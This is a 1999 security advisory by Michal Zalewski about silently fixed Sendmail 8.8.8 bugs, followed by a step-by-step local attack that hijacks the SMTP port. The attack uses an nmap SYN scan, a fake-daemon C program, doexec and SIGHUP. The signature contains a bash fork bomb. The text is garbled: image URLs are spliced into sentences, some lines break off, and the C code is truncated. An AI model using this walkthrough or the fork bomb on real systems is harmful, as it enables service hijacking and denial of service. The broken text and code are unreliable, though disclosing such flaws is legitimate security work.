Type packetstorm
Reporter Michal Zalewski
Modified 1999-11-05T00:00:00


                                            `Seems to me there's something really bad aboutsoftware vendors. First of
all, if author of program finds bug in it - even when this bug seems to be
nasty - very often, he'll silently fix it, even without mentioning it in
CHANGES (blessed those who put there text like 'some security fixes', at
least there's ANY evidence of changes) nor anywhere else - 'aah, why
people should know I've made a mistake, now everything is fixed, so no
need to worry'. Direct result: a lot of people live in conviction their
systems are secure, because even if they don't have newest version of
favourite software, there's no reason to upgrade so fast. One day, one of
these obsessed hackers will do diff of recent and previous version and
*WILL* find this bug, anyway, making much more mess than if people were
warned before. Examples? Bash 1.14.7 vs 2.0.x and 0xff character
(described in one of my previous postings) - and Sendmail 8.8.x vs 8.9.x -
see below.
Another bad thing about authors of distributions - they usually. Good
words to RedHat - their advisories and packages with supplied .diff files
are quite good. Flames to Slackware - they did really good work, but seems
to me they feel not obliged to inform people about fixes the way RH does.
Sometimes I get really surprised when I find out that a lot of security
holes present in eg. RH are not present in Slackware, but there's no any
information about bugfixes etc.
Facts. Many administrators still uses Sendmail 8.8.x (usually 8.8.8) as
more 'stable and secure' release, believing there are no major bugs in it.
Unfortunately, there are some bugs fixed silently till 8.9.3 release -
and, just like in bash case, never mentioned in CHANGES nor in security
Major bug is conjunction of three improper things in Sendmail 8.8.x:
- Sendmail 8.8.8 (fixed in 8.9.3, no info about other releases) won't
allow '-bd' parameter (run as daemon) if launched byluser. But '-bD'
parameter (run as daemon, but in foreground) works perfectly. This
has been fixed without any info in development history file.
- Sendmail 8.8.8 (fixed in 8.9.1, mentioned in history, as exploit
has been published on BUGTRAQ) has minor problem on Linux 2.0.xx
platforms - if accept() fails, it will close listen sockets, log
error and sleep for 5 seconds. Easiest way to cause this behaviour:
attacker# nmap -sS -P0 -p 25 destination_host
As it has no serious implications for site security, probably a lot
of people didn't even thought about upgrading Sendmail due to this
- there's unpublished, and theoretically harmless bug - when
Sendmail daemon receives HUP, it does execve(argv[0],...) to
restart itself. Unfortunately, 4th file descriptor (listen socket)
isn't closed before execve.
What can we do with these bugs together? Look:
victim$ cd /tmp
victim$ cat >test.c <<EOF
#include <netinet/in.h>
#include <fcntl.h>
#define SERV_FD 4
main() {
struct sockaddr_in saddr;
int csock,i=sizeof(saddr);
while (1) {
while ((csock=accept(SERV_FD,&saddr,&i))<0);
if (!fork()) {
printf("220 Takeover ESMTP mail service - road closed.\n");
victim$ gcc test.c -o test
Now, we have only 5sec interval to execute two following commands, so be
hurry (probably you'll have to prepare and test it... or to write some
kind of script ;)...
attacker# nmap -p 25 -sS -P0 -n victim
Zoink! With lightspeed, we should enter the following on victim machine:
victim$ doexec /usr/sbin/sendmail /tmp/test -bDNote: doexec is handful utility shipped with RH to set arbitrary argv[0]
of programs. Source for this proggy seems to be similar to:
main(int argc, char* argv[]) { return execvp(argv[0],&argv[1]); }
If you'll see 'Address already in use', you're probably too slow ;) Let's
switch to another tty and see what have we here (should be our foreground
daemon, while old, background daemon won't be able to bind() to port 25
victim$ nc 25
220 Marchew ESMTP Mail Service at nimue.ids.pl ready.
221 nimue.ids.pl closing connection
Hmm, what about sending SIGHUP to our foreground daemon... It will execute
/tmp/test instead of itself. Nothing dangerous, as extra privledges are
dropped... But we'll inherit descriptor to listen socket!
victim$ killall -HUP sendmailWhat happened? Hmmm....
victim$ nc 25
220 Takeover ESMTP mail service - road closed.
Aghr ;P
Michal Zalewski [lcamtuf@ids.pl] [link / marchew] [dione.ids.pl SYSADM]
[Marchew Industries] ! [http://lcamtuf.na.export.pl] bash$ :(){ :|:&};:
[voice phone: +48 22 813 25 86] <=-=> [cellular phone: +48 501 4000 69]
Iterowac jest rzecza ludzka, wykonywac rekursywnie - boska [P. Deutsch]